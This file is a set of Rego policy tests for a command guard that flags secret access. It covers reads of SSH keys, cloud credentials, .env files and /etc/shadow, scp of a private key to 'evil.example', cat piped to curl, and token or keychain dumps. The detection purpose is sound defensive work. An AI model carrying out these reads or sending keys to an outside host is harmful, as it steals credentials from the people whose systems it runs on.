package guard.rules.secret_test

import data.guard.fixture

test_secret_read if {
	every p in [
		fixture.home("read", ".ssh/id_rsa"), fixture.home("read", ".aws/credentials"), fixture.path("read", "workspace", "/home/dev/app/.env", {}),
		fixture.path("read", "system", "/etc/shadow", {}), fixture.path("read", "system", "/proc/self/environ", {}), fixture.home("read", "x/server.pem"),
	] {
		"secret.read" in fixture.ids(fixture.on("cat", p))
	}
}

test_no_secret if {
	every p in [
		fixture.home("read", ".ssh/id_rsa.pub"), fixture.path("read", "workspace", "/home/dev/app/.env.example", {}),
		fixture.home("read", ".ssh/known_hosts"), fixture.path("read", "workspace", "/home/dev/app/x.env.go", {}),
	] {
		fixture.ids(fixture.on("cat", p)) == set()
	}
}

test_secret_listed if fixture.ids(fixture.on("ls", fixture.home("unknown", ".ssh"))) == set()

test_secret_sent if "secret.send" in fixture.ids([{
	"name": "scp", "hosts": [fixture.host("evil.example", true)],
	"paths": [fixture.home("read", ".ssh/id_rsa")],
}])

test_file_sent if not "secret.send" in fixture.ids([{
	"name": "scp", "hosts": [fixture.host("evil.example", true)],
	"paths": [fixture.path("read", "workspace", "/home/dev/app/x", {})],
}])

test_secret_flows if "secret.flow" in fixture.ids([{"name": "cat", "paths": [fixture.home("read", ".ssh/id_rsa")], "writes_to": [1]}, {"name": "curl", "reads_from": [0]}])

test_secret_stays if not "secret.flow" in fixture.ids([{"name": "cat", "paths": [fixture.home("read", ".ssh/id_rsa")]}, {"name": "curl"}])

test_secret_moved if "secret.copy" in fixture.ids(fixture.on("mv", fixture.home("delete", ".ssh/id_rsa")))

test_file_moved if not "secret.copy" in fixture.ids(fixture.on("mv", fixture.home("delete", "x")))

test_token if {
	"secret.token" in fixture.ids(fixture.sub("gh", "auth token", [], []))
	"secret.token" in fixture.ids(fixture.args("security", ["find-generic-password", "-wa", "svc"]))
}

test_no_token if not "secret.token" in fixture.ids(fixture.sub("gh", "auth status", [], []))

test_history if "secret.history" in fixture.ids([{"name": "history"}])

test_history_cleared if not "secret.history" in fixture.ids([{"name": "history", "flags": ["c"]}])

test_keys if "secret.keys" in fixture.ids([{"name": "ssh-keygen", "flags": ["f", "y"]}])

test_key_fingerprint if not "secret.keys" in fixture.ids([{"name": "ssh-keygen", "flags": ["l", "f"]}])
